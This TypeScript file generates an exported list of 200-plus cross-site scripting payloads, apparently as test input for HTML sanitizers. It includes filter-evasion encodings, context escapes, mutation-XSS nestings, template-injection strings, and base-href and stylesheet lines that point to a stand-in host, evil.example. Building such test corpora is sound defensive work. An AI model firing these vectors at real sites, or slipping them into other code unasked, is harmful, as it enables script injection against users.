/** A call that each vector makes when a browser takes it for script. */
const CALL = "alert(1)";

const events = ["onerror", "onload", "onfocus", "onmouseover", "ontoggle", "onanimationstart", "onpointerenter", "onbegin"];
const carriers = [
  (event: string) => `<img src=x ${event}=${CALL}>`,
  (event: string) => `<svg ${event}=${CALL}><animate attributeName=x dur=1s></svg>`,
  (event: string) => `<input autofocus ${event}=${CALL}>`,
  (event: string) => `<details open ${event}=${CALL}><summary>x</summary></details>`,
  (event: string) => `<body ${event}=${CALL}>`,
  (event: string) => `<iframe src="about:blank" ${event}=${CALL}></iframe>`,
  (event: string) => `<video ${event}=${CALL}><source ${event}=${CALL}></video>`,
  (event: string) => `<style>@keyframes k{}</style><b style="animation:k 1s" ${event}=${CALL}>x</b>`,
];

/** Ways out of what a vector may have been put into: an attribute, a script, a title, a comment, a text area. */
const escapes = ["", '">', "'>", "</script>", "</title>", "-->", "</textarea>", "</style>", "]]>", "\\\"></script>"];

const plain = [
  `<script>${CALL}</script>`,
  `<SCRIPT SRC=data:,${CALL}></SCRIPT>`,
  `<scr<script>ipt>${CALL}</scr</script>ipt>`,
  `<a href="javascript:${CALL}">read</a>`,
  `javascript:${CALL}`,
  `java\tscript:${CALL}`,
  `data:text/html,<script>${CALL}</script>`,
  `[read](javascript:${CALL})`,
  `<form action="javascript:${CALL}"><button>go</button></form>`,
  `<iframe srcdoc="<script>parent.${CALL}</script>"></iframe>`,
  `<object data="data:text/html,<script>${CALL}</script>"></object>`,
  `<embed src="javascript:${CALL}">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${CALL}">`,
  `<base href="https://evil.example/">`,
  `<link rel=stylesheet href="https://evil.example/x.css">`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${CALL}>`,
  `<noscript><p title="</noscript><img src=x onerror=${CALL}>">`,
  `<template><script>${CALL}</script></template>`,
  `<svg><script>${CALL}</script></svg>`,
  `<svg><a xlink:href="javascript:${CALL}"><text y=20>x</text></a></svg>`,
  `<img src=x onerror=&#97;lert(1)>`,
  `<img src=x onerror="\\u0061lert(1)">`,
  `\u003cscript\u003e${CALL}\u003c/script\u003e`,
  `&lt;script&gt;${CALL}&lt;/script&gt;`,
  `%3Cscript%3E${CALL}%3C/script%3E`,
  `＜script＞${CALL}＜/script＞`,
  `{{constructor.constructor('${CALL}')()}}`,
  `\${${CALL}}`,
  `__proto__`,
  `";${CALL};//`,
  `';${CALL};//`,
  `</script><script>${CALL}</script>`,
  `<!--<img src="--><img src=x onerror=${CALL}//">`,
  `<x onclick=${CALL} style=position:fixed;inset:0>x`,
  `<img src="x:\`" onerror=${CALL}>`,
  `<IMG """><SCRIPT>${CALL}</SCRIPT>">`,
];

/** Texts that run a script in a page that writes them as they are; at least 200, all different. */
export const SCRIPT_VECTORS: readonly string[] = [
  ...new Set([...plain, ...escapes.flatMap((escape) => [`${escape}<script>${CALL}</script>`, ...carriers.flatMap((carry, at) => [events[at % events.length]!, events[(at + 1) % events.length]!].map((event) => `${escape}${carry(event)}`))])]),
];
